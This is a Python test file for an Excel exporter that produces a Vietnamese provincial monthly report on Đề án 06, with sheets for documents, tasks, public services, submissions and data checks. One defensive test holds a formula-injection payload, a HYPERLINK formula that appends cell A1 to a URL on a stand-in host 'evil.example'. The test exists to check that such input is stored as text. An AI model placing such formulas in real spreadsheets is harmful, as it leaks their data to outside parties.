"""The Excel report: sheets per appendix, numbers as numbers, shares and totals as formulas
(recomputed for real by LibreOffice), frozen headers, filters, print set-up, text never a
formula, the same bytes for the same report."""

from __future__ import annotations

import dataclasses
import datetime as dt
import io
import os
import re
import shutil
import subprocess
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.cell.cell import MergedCell
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

from dean06.reports import content as c
from dean06.reports.exporters.registry import exporter_for
from dean06.reports.exporters.xlsx import XlsxExporter
from tests.reports.sample import seed_report

SHEETS = ["Phụ lục I", "Phụ lục II", "Phụ lục III", "Gửi báo cáo", "Kiểm tra số liệu"]
FIRST_SERVICE_ROW = 7  # Phụ lục III: rows 1-3 titles, 4-6 the header
TOTAL_ROW = FIRST_SERVICE_ROW + 25


def _calc_missing_reason() -> str | None:
    soffice = shutil.which("soffice")
    if soffice is None:
        return "LibreOffice (soffice) is not installed: apt install libreoffice-calc-nogui"
    if not (Path(os.path.realpath(soffice)).parent / "libsclo.so").exists():
        return "LibreOffice Calc is not installed: apt install libreoffice-calc-nogui"
    return None


needs_calc = pytest.mark.skipif(
    _calc_missing_reason() is not None, reason=str(_calc_missing_reason())
)


@pytest.fixture(scope="module")
def report() -> c.MonthlyReport:
    return seed_report()


@pytest.fixture(scope="module")
def data(report: c.MonthlyReport) -> bytes:
    return XlsxExporter().render(report)


@pytest.fixture(scope="module")
def wb(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def _rows(ws: Worksheet, first: int, last_column: int = 1) -> list[tuple]:
    return [
        tuple(c.value for c in row)
        for row in ws.iter_rows(min_row=first, max_row=ws.max_row, max_col=last_column)
    ]


def _merged(ws: Worksheet) -> set[str]:
    return {str(r) for r in ws.merged_cells.ranges}


def test_the_registry_offers_xlsx():
    exporter = exporter_for("xlsx")
    assert isinstance(exporter, XlsxExporter)
    assert exporter.label == "Excel (.xlsx)"
    assert exporter.extension == ".xlsx"


def test_one_sheet_per_appendix_in_order(wb):
    assert wb.sheetnames == SHEETS


def test_each_sheet_opens_with_its_title_and_the_attachment_line(wb, report):
    titles = {
        "Phụ lục I": "TỔNG HỢP VĂN BẢN TRIỂN KHAI - THÁNG 7/2024",
        "Phụ lục III": "KẾT QUẢ THỰC HIỆN 25 DỊCH VỤ CÔNG THIẾT YẾU - THÁNG 7/2024",
        "Gửi báo cáo": "TÌNH HÌNH GỬI BÁO CÁO CỦA CÁC ĐƠN VỊ - THÁNG 7/2024",
        "Kiểm tra số liệu": "KẾT QUẢ KIỂM TRA SỐ LIỆU - THÁNG 7/2024",
    }
    for name in SHEETS:
        ws = wb[name]
        assert ws["A1"].value.startswith("PHỤ LỤC ")
        assert ws["A2"].value == ws["A2"].value.upper()
        assert ws["A2"].value.endswith(" - THÁNG 7/2024")
        assert ws["A2"].font.bold
        assert ws["A3"].value == report.attachment_line
        assert ws["A3"].font.italic
        if name in titles:
            assert ws["A2"].value == titles[name]
        assert ws["A4"].value == "STT"
        for cell in ws[4]:
            if isinstance(cell, MergedCell):  # inside a merged header: the first cell rules
                continue
            assert cell.font.bold and cell.alignment.horizontal == "center", cell.coordinate
            assert cell.border.left.style == cell.border.bottom.style == "thin"
    assert wb["Phụ lục II"]["A2"].value.startswith("TIẾN ĐỘ THỰC HIỆN NHIỆM VỤ ĐƯỢC GIAO")


def test_documents_are_grouped_under_merged_bold_group_rows(wb):
    ws = wb["Phụ lục I"]
    assert [c.value for c in ws[4]] == [
        "STT",
        "Số VB",
        "Loại VB",
        "Ngày tháng",
        "Nội dung",
        "Ghi chú",
    ]
    rows = _rows(ws, 5)
    groups = [r for r, (v,) in enumerate(rows, 5) if isinstance(v, str)]
    documents = [v for (v,) in rows if isinstance(v, int)]
    assert len(rows) == 33
    assert len(groups) == 3 and len(documents) == 30
    assert [ws.cell(r, 1).value for r in groups] == [
        "I. Văn bản của UBND tỉnh",
        "II. Văn bản của Tổ Đề án 06 tỉnh",
        "III. Văn bản các đơn vị triển khai",
    ]
    for r in groups:
        assert f"A{r}:F{r}" in _merged(ws)
        assert ws.cell(r, 1).font.bold
    # the running numbers restart in each group: 9, 6 and 15 documents
    assert documents == [*range(1, 10), *range(1, 7), *range(1, 16)]


def test_document_dates_are_real_dates_and_unread_ones_stay_as_printed(wb):
    ws = wb["Phụ lục I"]
    first = ws["D6"]  # 3240/UBND-KGVX, 19/06/2024
    assert ws["B6"].value == "3240/UBND-KGVX"
    assert first.value == dt.datetime(2024, 6, 19)
    assert first.number_format == "dd/mm/yyyy"
    truncated = ws["D8"]  # printed "24/06/202"
    assert truncated.value == "24/06/202"
    assert truncated.data_type == "s"
    assert ws["F40"].value is None  # nothing below the table
    assert ws["F35"].value == "UBND Yên Dũng"


def test_tasks_are_in_their_three_groups_and_unreported_ones_come_apart(wb):
    ws = wb["Phụ lục II"]
    assert ws["B4"].value == "Nội dung, nhiệm vụ cụ thể"
    groups: dict[str, int] = {}
    current = ""
    row = 5
    while ws.cell(row, 1).value is not None:
        value = ws.cell(row, 1).value
        if isinstance(value, str):
            current = ws.cell(row, 2).value
            groups[current] = 0
            assert ws.cell(row, 2).font.bold
            assert f"B{row}:F{row}" in _merged(ws)
        else:
            groups[current] += 1
            assert value == groups[current]
        row += 1
    assert groups == {
        "NHIỆM VỤ ĐÃ HOÀN THÀNH": 11,
        "NHIỆM VỤ THỰC HIỆN THƯỜNG XUYÊN": 27,
        "NHIỆM VỤ ĐANG THỰC HIỆN": 12,
    }
    assert row == 5 + 3 + 50
    # a blank row, then the tasks no unit reported on, with the units that owe them
    assert ws.cell(row + 1, 1).value == "NHIỆM VỤ CHƯA CÓ BÁO CÁO TRONG KỲ"
    assert ws.cell(row + 2, 4).value == "Đơn vị chưa báo cáo"
    assert [ws.cell(row + 3, k).value for k in (1, 2, 3, 4, 5)] == [
        1,
        "Nhiệm vụ chưa báo cáo",
        "KH số 18/KH-UBND",
        "Sở Y tế",
        "Năm 2024",
    ]
    assert ws.auto_filter.ref == f"A4:F{row - 1}"


def test_services_header_is_the_printed_three_rows_as_merged_cells(wb):
    ws = wb["Phụ lục III"]
    expected = {
        "A4:A6": "STT",
        "B4:B6": "Tên thủ tục hành chính",
        "C4:F4": "Số lượng công dân, doanh nghiệp thực hiện thủ tục",
        "C5:D5": "Nộp trực tuyến",
        "E5:E6": "Tổng số tiếp nhận (cả trực tuyến và trực tiếp)",
        "F5:F6": "% tiếp nhận qua DVC",
        "G4:H4": "Hồ sơ DVC được giải quyết",
        "G5:G6": "Đúng hạn",
        "H5:H6": "Quá hạn",
        "I4:L4": "Nhân lực thực hiện",
        "I5:I6": "Tổng số",
        "J5:J6": "Tỉnh",
        "K5:K6": "Huyện",
        "L5:L6": "Xã",
        "M4:M6": "Chỉ tiêu",
    }
    merged = _merged(ws)
    for ref, text in expected.items():
        assert ref in merged
        anchor = ws[ref.split(":")[0]]
        assert anchor.value == text
        assert anchor.font.bold and anchor.alignment.horizontal == "center"
        assert anchor.border.top.style == "thin"
    assert (ws["C6"].value, ws["D6"].value) == ("Công dân", "Doanh nghiệp")


def test_service_counts_are_numbers_and_shares_are_formulas_of_their_row(wb, report):
    ws = wb["Phụ lục III"]
    for i, service in enumerate(report.services):
        row = FIRST_SERVICE_ROW + i
        assert ws.cell(row, 1).value == service.stt
        assert ws.cell(row, 2).value == service.name
        for column, value in ((3, service.online_citizens), (4, 0), (5, service.total)):
            cell = ws.cell(row, column)
            assert cell.value == (value if column != 4 else service.online_businesses)
            assert cell.data_type == "n"
            assert cell.number_format == "#,##0"
        share = ws.cell(row, 6)
        assert share.value == f'=IF(E{row}=0,"",(C{row}+D{row})/E{row})'
        assert share.number_format == "0.00%"
        assert ws.cell(row, 13).value == pytest.approx(0.8)
        assert ws.cell(row, 13).number_format == "0.00%"
    assert ws["B15"].value == "Đăng ký khai sinh"
    assert (ws["C15"].value, ws["E15"].value) == (1755, 1869)
    assert ws["J7"].value == "x" and ws["L7"].value == "x"


def test_the_total_row_sums_exactly_the_25_services(wb):
    ws = wb["Phụ lục III"]
    assert ws.cell(TOTAL_ROW, 1).value == "Tổng số"
    assert f"A{TOTAL_ROW}:B{TOTAL_ROW}" in _merged(ws)
    for letter in "CDE":
        cell = ws[f"{letter}{TOTAL_ROW}"]
        assert cell.value == f"=SUM({letter}7:{letter}31)"
        assert cell.number_format == "#,##0"
        assert cell.font.bold
    share = ws[f"F{TOTAL_ROW}"]
    assert share.value == f'=IF(E{TOTAL_ROW}=0,"",(C{TOTAL_ROW}+D{TOTAL_ROW})/E{TOTAL_ROW})'
    assert share.number_format == "0.00%"
    # no service reported on-time or overdue files: the total leaves them blank, not 0
    assert ws[f"G{TOTAL_ROW}"].value is None
    assert ws.max_row == TOTAL_ROW


def test_submission_states_and_dates(wb):
    ws = wb["Gửi báo cáo"]
    assert [c.value for c in ws[4]] == ["STT", "Đơn vị", "Ngày gửi", "Tình trạng"]
    assert [[c.value for c in ws[r]] for r in (5, 6, 7)] == [
        [1, "Công an tỉnh", dt.datetime(2024, 7, 12), "Đúng hạn"],
        [2, "Sở Y tế", dt.datetime(2024, 7, 17), "Muộn 3 ngày"],
        [3, "UBND huyện Lục Nam", None, "Chưa gửi"],
    ]
    assert ws["C5"].number_format == "dd/mm/yyyy"


def test_findings_and_the_empty_case(wb, report):
    ws = wb["Kiểm tra số liệu"]
    assert [c.value for c in ws[5]] == [
        1,
        "Lỗi",
        "Phụ lục III, dòng 18",
        "Tỷ lệ in ra khác tỷ lệ tính từ số liệu.",
    ]
    empty = dataclasses.replace(report, findings=(), submissions=(), unreported=())
    book = load_workbook(io.BytesIO(XlsxExporter().render(empty)))
    for name in ("Kiểm tra số liệu", "Gửi báo cáo"):
        assert book[name]["A5"].value == "Không có"
        assert "A5:D5" in _merged(book[name])
    tasks = book["Phụ lục II"]
    assert tasks.cell(5 + 53 + 3, 1).value == "Không có"


def test_frozen_panes_filters_and_print_setup(wb):
    expected = {
        "Phụ lục I": ("B5", "A4:F37", "$4:$4"),
        "Phụ lục III": ("B7", "A6:M31", "$4:$6"),
        "Gửi báo cáo": ("B5", "A4:D7", "$4:$4"),
        "Kiểm tra số liệu": ("B5", "A4:D5", "$4:$4"),
    }
    for name in SHEETS:
        ws = wb[name]
        if name in expected:
            freeze, ref, titles = expected[name]
            assert ws.freeze_panes == freeze
            assert ws.auto_filter.ref == ref
            assert ws.print_title_rows == titles
        assert ws.page_setup.orientation == "landscape"
        assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert int(ws.page_setup.fitToWidth) == 1
        assert int(ws.page_setup.fitToHeight) == 0
    assert wb["Phụ lục II"].freeze_panes == "B5"
    assert wb["Phụ lục II"].print_title_rows == "$4:$4"


def test_every_cell_is_times_new_roman_and_long_text_wraps(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.font.name == "Times New Roman", (ws.title, cell.coordinate)
    tasks = wb["Phụ lục II"]
    assert tasks["B6"].alignment.wrap_text
    assert tasks.column_dimensions["B"].width > tasks.column_dimensions["A"].width * 5
    assert wb["Phụ lục I"].column_dimensions["E"].width >= 60


def test_text_that_looks_like_a_formula_is_stored_as_text(report):
    group = report.documents[0]
    evil = dataclasses.replace(
        group.rows[0],
        summary='=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
        number="+1-2",
        note="bad\x0bchar",  # a vertical tab from Word: not allowed in XLSX
    )
    hacked = dataclasses.replace(
        report, documents=(dataclasses.replace(group, rows=(evil,)), *report.documents[1:])
    )
    data = XlsxExporter().render(hacked)
    ws = load_workbook(io.BytesIO(data))["Phụ lục I"]
    cell = ws["E6"]
    assert cell.value == evil.summary
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert ws["B6"].value == "+1-2" and ws["B6"].data_type == "s"
    assert ws["F6"].value == "badchar"
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    # a text cell (inline or shared string), never a formula element
    assert re.search(r'<c r="E6"[^>]* t="(inlineStr|s)"', sheet)
    assert "<f>" not in sheet


def test_the_same_report_gives_the_same_bytes(report, data, monkeypatch):
    later = time.time() + 3 * 86400
    monkeypatch.setattr(time, "time", lambda: later)
    again = XlsxExporter().render(seed_report())
    assert again == data
    members = zipfile.ZipFile(io.BytesIO(data)).infolist()
    assert {m.date_time for m in members} == {(2024, 7, 14, 0, 0, 0)}
    props = load_workbook(io.BytesIO(data)).properties
    assert props.created == props.modified == dt.datetime(2024, 7, 14)
    other = dataclasses.replace(report, period_end=dt.date(2024, 8, 14))
    assert XlsxExporter().render(other) != data


@needs_calc
def test_libreoffice_recalculates_the_shares_and_the_true_total(data, report, tmp_path):
    source = tmp_path / "bao-cao.xlsx"
    source.write_bytes(data)
    out = tmp_path / "out"
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    ws = load_workbook(out / "bao-cao.xlsx", data_only=True)["Phụ lục III"]
    total = [ws.cell(TOTAL_ROW, k).value for k in (3, 4, 5)]
    assert total == [46309, 80, 48050]
    assert round(ws.cell(TOTAL_ROW, 6).value, 4) == 0.9654
    for i, service in enumerate(report.services):
        row = FIRST_SERVICE_ROW + i
        share = ws.cell(row, 6).value
        if not service.total:
            assert share in (None, "")
            continue
        expected = (service.online_citizens + service.online_businesses) / service.total
        assert share == pytest.approx(expected, abs=1e-12)
        assert round(share * 100, 2) == float(service.share)
    # "Đăng ký khai sinh": printed 88,73%, computed from its counts 1.755 / 1.869
    assert round(ws["F15"].value, 4) == 0.9390


def test_long_text_rows_are_tall_enough_to_print(wb):
    tasks = wb["Phụ lục II"]
    # task I.2: a result of several hundred characters in a 60-wide column
    assert tasks["F7"].value.startswith("- UBND tỉnh ban hành Quyết định số 2034")
    assert tasks.row_dimensions[7].height >= 6 * 15
    # a one-line row keeps the default height; the header row fits its words
    services = wb["Phụ lục III"]
    assert services.row_dimensions[8].height is None  # "Cấp lại, đổi thẻ CCCD"
    assert services.row_dimensions[5].height >= 45


def test_a_service_without_figures_has_no_share_and_the_total_still_spans_all_rows(report):
    blank = dataclasses.replace(
        report.services[1], online_citizens=None, online_businesses=None, total=None, share=None
    )
    services = (report.services[0], blank, *report.services[2:])
    data = XlsxExporter().render(dataclasses.replace(report, services=services))
    ws = load_workbook(io.BytesIO(data))["Phụ lục III"]
    assert [ws.cell(8, k).value for k in (3, 4, 5, 6)] == [None, None, None, None]
    assert ws["C32"].value == "=SUM(C7:C31)"


def test_an_empty_report_still_gives_every_sheet(report):
    empty = dataclasses.replace(
        report,
        documents=(),
        tasks=(),
        unreported=(),
        services=(),
        service_total=None,
        submissions=(),
        findings=(),
    )
    book = load_workbook(io.BytesIO(XlsxExporter().render(empty)))
    assert book.sheetnames == SHEETS
    assert book["Phụ lục I"]["A5"].value == "Không có"
    services = book["Phụ lục III"]
    assert services["A2"].value == "KẾT QUẢ THỰC HIỆN 0 DỊCH VỤ CÔNG THIẾT YẾU - THÁNG 7/2024"
    assert services["A7"].value == "Không có"
    assert not any(
        isinstance(c.value, str) and c.value.startswith("=SUM")
        for row in services.iter_rows()
        for c in row
    )


def test_text_longer_than_a_cell_holds_is_cut(report):
    group = report.documents[0]
    long = dataclasses.replace(group.rows[0], summary="a" * 40000)
    data = XlsxExporter().render(
        dataclasses.replace(report, documents=(dataclasses.replace(group, rows=(long,)),))
    )
    value = load_workbook(io.BytesIO(data))["Phụ lục I"]["E6"].value
    assert len(value) == 32767 and value.endswith("…")
